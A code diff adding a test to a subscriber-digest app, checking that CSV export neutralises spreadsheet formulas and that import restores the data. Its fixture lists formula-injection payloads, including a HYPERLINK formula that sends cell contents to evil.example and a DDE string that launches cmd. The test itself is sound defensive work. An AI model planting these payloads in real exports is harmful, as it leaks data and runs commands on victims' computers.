@@ -361,3 +361,55 @@ def test_export_round_trips_with_import(cli, engine: Engine, tmp_path: Path, db_
 def _profile(rows: list[dict[str, str]]) -> list[tuple[str, ...]]:
     keys = ("email", "name", "topics", "frequency", "timezone", "send_hour")
     return sorted(tuple(r[k] for k in keys) for r in rows)
+
+
+# ---------------------------------------------------------------- spreadsheet formulas
+
+HOSTILE_NAMES = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click to verify")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "'=already quoted",
+    "''+twice",
+    "'Tis the season",
+)
+
+
+def test_export_neutralises_formulas_and_import_reads_them_back(
+    cli, engine: Engine, tmp_path: Path
+) -> None:
+    """No exported cell starts with = + - @ (a spreadsheet would run it); importing the export
+    gives back the same names, addresses and topics, and a leading apostrophe of its own."""
+    with session_scope(engine) as session:
+        for i, name in enumerate(HOSTILE_NAMES):
+            record = members.MemberRecord(f"m{i}@example.org", name, ("Space",))
+            members.add_member(session, record, T0)
+        members.add_member(
+            session, members.MemberRecord("-dash@example.org", "Dash", ("=Evil topic",)), T0
+        )
+    out = tmp_path / "export.csv"
+    assert cli("subscribers", "export", "--output", str(out)).exit_code == 0
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert "'=HYPERLINK(" in out.read_text(encoding="utf-8")
+    assert "'Tis the season" in cells  # nothing to neutralise: left as it is
+
+    fresh = tmp_path / "fresh"
+    fresh.mkdir()
+    cli.env["DIGEST_DATABASE_URL"] = f"sqlite:///{fresh / 'digest.db'}"
+    result = cli("subscribers", "import", str(out))
+    assert result.exit_code == 0, result.output
+    again = tmp_path / "again.csv"
+    assert cli("subscribers", "export", "--output", str(again)).exit_code == 0
+    assert again.read_text(encoding="utf-8") == out.read_text(encoding="utf-8")
+    from digest.db import make_engine
+
+    copy = make_engine(f"sqlite:///{fresh / 'digest.db'}")
+    with Session(copy) as session:
+        names = {m.email: m.name for m in session.exec(select(Subscriber))}
+        topics = set(session.exec(select(Topic.name)))
+    copy.dispose()
+    assert [names[f"m{i}@example.org"] for i in range(len(HOSTILE_NAMES))] == list(HOSTILE_NAMES)
+    assert names["-dash@example.org"] == "Dash" and "=Evil topic" in topics
